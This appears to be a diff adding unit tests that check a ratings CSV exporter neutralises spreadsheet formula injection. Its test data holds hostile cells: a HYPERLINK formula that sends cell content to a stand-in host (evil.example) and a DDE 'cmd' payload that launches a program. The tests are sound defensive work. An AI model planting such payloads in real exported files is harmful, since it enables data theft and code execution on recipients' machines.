@@ -24,6 +24,16 @@ def test_ratings_csv_round_trip():
         Rating("q", "d", "", 1)]  # the unnamed rater, read back as such when asked
 
 
+def test_ratings_csv_neutralises_formulas_and_reads_them_back():
+    hostile = [Rating("=HYPERLINK(\"http://evil.example/\"&A1)", "@SUM(A1:A9)", "ann", 2),
+               Rating("q1", "+33-1", "-rater", 1), Rating("q1", "'=x", "ann", 0)]
+    text = format_ratings_csv(hostile)
+    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), text
+    assert text.splitlines()[2] == "q1,'+33-1,1,'-rater"
+    assert parse_ratings_csv(text) == hostile
+
+
 def test_ratings_csv_columns_in_any_order_with_aliases_and_a_default_rater():
     text = "\ufeffRating,Doc_ID,note,QUERY_ID\n2,d7,\"a, b\",q1\n?,d8,,q1\n,d9,x,q1\ncan't tell,d6,,q1\n3.0,d5,,q2\n"
     assert parse_ratings_csv(text, default_rater="sam") == [
@@ -74,6 +84,17 @@ def test_quepid_csv_is_what_quepid_writes():
     text = format_quepid_csv(QUEPID_QUERIES, QUEPID_RATINGS)
     assert text == ('query,docid,rating\n"star ""wars"", the saga",d9,3\n"star ""wars"", the saga",d1,0\n'
                     "检索 排序,文档-1,2\n =cmd|' /C calc'!A0,x,1\ntrek,,")  # no line feed after the last line
+
+
+def test_quepid_csv_neutralises_formulas_in_every_cell():
+    queries = {"q1": "@SUM(1+1)*cmd|' /C calc'!A0", "q2": "+Plus"}
+    ratings = [Rating("q1", "=HYPERLINK(\"http://evil.example\")", "quepid", 3), Rating("q2", "-1+2", "quepid", 1)]
+    text = format_quepid_csv(queries, ratings)
+    assert text == ('query,docid,rating\n'
+                    ' @SUM(1+1)*cmd|\' /C calc\'!A0," =HYPERLINK(""http://evil.example"")",3\n'
+                    ' +Plus, -1+2,1')  # Quepid's own rule: a space, which its importer strips
+    known = {text: query_id for query_id, text in queries.items()}
+    assert parse_quepid_csv(text, known) == (queries, ratings)
 
 
 def test_quepid_csv_round_trip():
